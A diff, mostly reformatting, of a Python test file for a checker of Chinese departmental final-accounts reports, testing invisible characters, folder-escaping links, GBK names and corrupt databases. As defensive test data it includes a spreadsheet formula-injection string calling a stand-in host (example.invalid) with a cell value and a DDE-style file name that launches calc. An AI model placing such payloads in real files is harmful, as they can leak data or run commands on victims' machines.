@@ -29,10 +29,12 @@ from tests.test_bad_input import jiaohe
 REPO_ROOT = Path(__file__).resolve().parents[1]
 DEMO = REPO_ROOT / "corpus" / "demo" / "qingchuan-juesuan-2024-with-defects.txt"
 
-_HOSTILE = ("=HYPERLINK(\"http://example.invalid/?\"&A1,\"点此\")单位2024年度部门决算说明\n"
-            "一、收入支出决算总体情况\n"
-            "本年收入合计 100.00 万元，其中财政拨款收入 80.00 万元，其他收入 30.00 万元。\n"
-            "主要原因是：+SUM(1,2)-@cmd。\n")
+_HOSTILE = (
+    '=HYPERLINK("http://example.invalid/?"&A1,"点此")单位2024年度部门决算说明\n'
+    "一、收入支出决算总体情况\n"
+    "本年收入合计 100.00 万元，其中财政拨款收入 80.00 万元，其他收入 30.00 万元。\n"
+    "主要原因是：+SUM(1,2)-@cmd。\n"
+)
 
 
 def _database(tmp_path: Path, name: str = "=cmd|' -C calc'!A0.txt") -> Path:
@@ -78,6 +80,7 @@ def test_markdown_escapes_the_file_name_and_excerpts():
 
 # ------------------------------------------------------------------ invisible characters
 
+
 def test_the_format_character_class_is_unicode_cf():
     cf = {chr(c) for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) == "Cf"}
     matched = {chr(c) for c in range(sys.maxunicode + 1) if FORMAT_CHARS.match(chr(c))}
@@ -105,8 +108,7 @@ def test_zero_width_spaces_neither_hide_nor_invent_errors(tmp_path):
 
 
 def test_removing_format_characters_keeps_the_source_map_exact(tmp_path):
-    lines = ["一\u200b、收入支出决算总体情况",
-             "本年收入合计1\u200b20.50万元，比上年增\u2060加10.50万元，增长9.55%。"]
+    lines = ["一\u200b、收入支出决算总体情况", "本年收入合计1\u200b20.50万元，比上年增\u2060加10.50万元，增长9.55%。"]
     path = tmp_path / "map.txt"
     path.write_text("\n".join(lines), encoding="utf-8")
     document = load_document(path)
@@ -115,11 +117,12 @@ def test_removing_format_characters_keeps_the_source_map_exact(tmp_path):
         assert not FORMAT_CHARS.search(block.text)
         for piece in block.pieces:
             source = lines[piece.line - 1]
-            assert source[piece.column:piece.column + piece.end - piece.start] == block.raw[piece.start:piece.end]
+            assert source[piece.column : piece.column + piece.end - piece.start] == block.raw[piece.start : piece.end]
     assert "120.50" in document.blocks[1].text
 
 
 # ------------------------------------------------------------------ scan stays in its folder
+
 
 def test_scan_skips_links_out_of_its_folder_and_survives_link_loops(tmp_path):
     secret = tmp_path / "secret.txt"
@@ -136,12 +139,13 @@ def test_scan_skips_links_out_of_its_folder_and_survives_link_loops(tmp_path):
         started = time.perf_counter()
         found = discover(targets, outside)
         assert time.perf_counter() - started < 5
-        assert [p.name for p in found] == ["a.txt"], targets   # inside.txt is the same file
+        assert [p.name for p in found] == ["a.txt"], targets  # inside.txt is the same file
         assert [Path(p).name for p, _ in outside] == ["leak.txt"]
         assert "outside" in outside[0][1]
 
 
 # ------------------------------------------------------------------ names and databases
+
 
 def _gbk_file(folder: Path) -> Path:
     name = os.fsdecode("测试报告".encode("gbk") + b".txt")
@@ -163,8 +167,12 @@ def test_check_output_with_a_gbk_file_name(tmp_path):
     path = _gbk_file(tmp_path)
     for fmt in ("html", "md", "text"):
         out = tmp_path / f"out.{fmt}"
-        result = subprocess.run([sys.executable, "-m", "checker", "check", os.fsencode(path), "-f", fmt,
-                                 "-o", out, "--fail-on", "none"], cwd=REPO_ROOT, capture_output=True, timeout=120)
+        result = subprocess.run(
+            [sys.executable, "-m", "checker", "check", os.fsencode(path), "-f", fmt, "-o", out, "--fail-on", "none"],
+            cwd=REPO_ROOT,
+            capture_output=True,
+            timeout=120,
+        )
         assert result.returncode == 0, result.stderr.decode(errors="replace")
         assert out.stat().st_size > 0
 
@@ -173,8 +181,8 @@ def test_check_output_with_a_gbk_file_name(tmp_path):
 def corrupt_db(tmp_path) -> Path:
     db = _database(tmp_path)
     data = bytearray(db.read_bytes())
-    for at in range(4096, len(data), 4096):   # every page but the header: the schema still opens
-        data[at + 8:at + 600] = b"\xa5" * 592
+    for at in range(4096, len(data), 4096):  # every page but the header: the schema still opens
+        data[at + 8 : at + 600] = b"\xa5" * 592
     db.write_bytes(bytes(data))
     for suffix in ("-wal", "-shm"):
         Path(str(db) + suffix).unlink(missing_ok=True)
@@ -192,12 +200,14 @@ def test_a_corrupt_database_is_an_input_error(corrupt_db, command):
 def test_same_named_inputs_get_distinct_outputs(tmp_path):
     for folder in ("a", "b"):
         (tmp_path / folder).mkdir()
-        (tmp_path / folder / "x.txt").write_text(_HOSTILE.replace("80.00", "70.00" if folder == "a" else "80.00"),
-                                                 encoding="utf-8")
+        (tmp_path / folder / "x.txt").write_text(
+            _HOSTILE.replace("80.00", "70.00" if folder == "a" else "80.00"), encoding="utf-8"
+        )
     out = tmp_path / "out"
     out.mkdir()
-    result = jiaohe("check", tmp_path / "a" / "x.txt", tmp_path / "b" / "x.txt", "-f", "html", "-o", out,
-                    "--fail-on", "none")
+    result = jiaohe(
+        "check", tmp_path / "a" / "x.txt", tmp_path / "b" / "x.txt", "-f", "html", "-o", out, "--fail-on", "none"
+    )
     assert result.returncode == 0, result.stderr
     assert sorted(p.name for p in out.iterdir()) == ["x-2.html", "x.html"]
     assert (out / "x.html").read_text(encoding="utf-8") != (out / "x-2.html").read_text(encoding="utf-8")
@@ -206,16 +216,26 @@ def test_same_named_inputs_get_distinct_outputs(tmp_path):
 def test_the_database_keeps_absolute_paths(tmp_path):
     (tmp_path / "docs").mkdir()
     (tmp_path / "docs" / "r.txt").write_text(_HOSTILE, encoding="utf-8")
-    result = subprocess.run([sys.executable, "-m", "checker", "scan", "docs", "--db", "f.sqlite", "--jobs", "1"],
-                            cwd=tmp_path, capture_output=True, text=True, timeout=300,
-                            env={**os.environ, "PYTHONPATH": str(REPO_ROOT)})
+    result = subprocess.run(
+        [sys.executable, "-m", "checker", "scan", "docs", "--db", "f.sqlite", "--jobs", "1"],
+        cwd=tmp_path,
+        capture_output=True,
+        text=True,
+        timeout=300,
+        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
+    )
     assert result.returncode == 0, result.stderr
     with sqlite3.connect(tmp_path / "f.sqlite") as conn:
         [path] = [r[0] for r in conn.execute("SELECT path FROM documents")]
     assert path == str(tmp_path / "docs" / "r.txt")
     elsewhere = tmp_path / "elsewhere"
     elsewhere.mkdir()
-    exported = subprocess.run([sys.executable, "-m", "checker", "export", "--db", tmp_path / "f.sqlite",
-                               "--html", "html"], cwd=elsewhere, capture_output=True, text=True, timeout=120,
-                              env={**os.environ, "PYTHONPATH": str(REPO_ROOT)})
+    exported = subprocess.run(
+        [sys.executable, "-m", "checker", "export", "--db", tmp_path / "f.sqlite", "--html", "html"],
+        cwd=elsewhere,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
+    )
     assert exported.returncode == 0 and "wrote 1 files" in exported.stdout, exported.stderr
